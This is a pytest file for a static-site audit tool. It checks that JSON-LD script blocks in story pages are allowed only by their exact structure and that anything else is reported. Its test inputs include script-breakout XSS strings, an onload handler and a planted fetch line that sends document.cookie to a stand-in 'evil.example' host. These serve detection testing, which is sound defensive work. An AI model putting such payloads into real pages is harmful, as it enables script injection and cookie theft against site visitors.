"""A story's JSON-LD (<script type="application/ld+json">) is allowed by its structure, not by a hash: the exact
type and nothing else, text that parses as a JSON object or list, and no `<` in it. Anything else in a script
element is still a finding, on the screened path and the full parse alike."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.audit.conftest import audit, found, plant, story_page

from extramile.audit.scripts import SiteRef, script_problem
from extramile.sharing import json_for_script

SITE = SiteRef(Path("/nonexistent"), "http://127.0.0.1:8000/")
LD = {"type": "application/ld+json"}
ARTICLE = {"@context": "https://schema.org", "@type": "Article", "headline": "Tea & </script><script>x()</script>"}


def test_json_ld_as_the_themes_write_it_is_allowed():
    text = str(json_for_script(ARTICLE))
    assert "<" not in text and json.loads(text) == ARTICLE  # escaped, and still the same data
    assert script_problem(LD, text, "stories/x/index.html", SITE) is None
    assert script_problem(LD, json.dumps([ARTICLE]).replace("<", "\\u003c"), "index.html", SITE) is None


@pytest.mark.parametrize("attrs, text, message", [
    (LD, '{"headline": "</script><script>alert(1)</script>"}', "raw '<'"),
    (LD, '{"a": 1} <!--', "raw '<'"),
    (LD, "alert(1)", "does not hold JSON"),
    (LD, '{"a": 1}; alert(1)', "does not hold JSON"),
    (LD, '"just a string"', "neither an object nor a list"),
    ({**LD, "src": "https://cdn.example.net/x.js"}, "", "not one of the theme's scripts"),
    ({**LD, "id": "x"}, '{"a": 1}', "attributes other than type"),
    ({**LD, "onload": "alert(1)"}, '{"a": 1}', "attributes other than type"),
    ({"type": "application/ld+json "}, '{"a": 1}', "inline <script> the theme did not put there"),
    ({"type": "text/javascript"}, '{"a": 1}', "inline <script> the theme did not put there"),
    ({}, '{"a": 1}', "inline <script> the theme did not put there"),
], ids=["closing tag", "comment", "code", "json then code", "scalar", "src", "id", "handler", "type with a space",
        "javascript type", "no type"])
def test_anything_else_is_a_finding(attrs, text, message):
    problem = script_problem(attrs, text, "index.html", SITE)
    assert problem is not None and message in problem, problem


def test_the_real_story_pages_hold_json_ld_and_pass(engine_sites):
    for site in engine_sites.values():
        page = (site / story_page(site)).read_text(encoding="utf-8")
        assert page.count('<script type="application/ld+json">') == 1
        assert audit(site) == []


def test_a_planted_json_ld_is_judged_by_its_structure(site):
    rel = story_page(site)
    good = plant(site, rel, f'<script type="application/ld+json">{json_for_script({"@type": "Thing"})}</script>')
    bad = plant(site, rel, '<script type="application/ld+json">{"name": "<b>x</b>"}</script>')
    code = plant(site, rel, '<script type="application/ld+json">fetch("//evil.example/"+document.cookie)</script>')
    findings = audit(site)
    assert not found(findings, rel, good, "")
    assert found(findings, rel, bad, "raw '<'")
    assert found(findings, rel, code, "does not hold JSON")
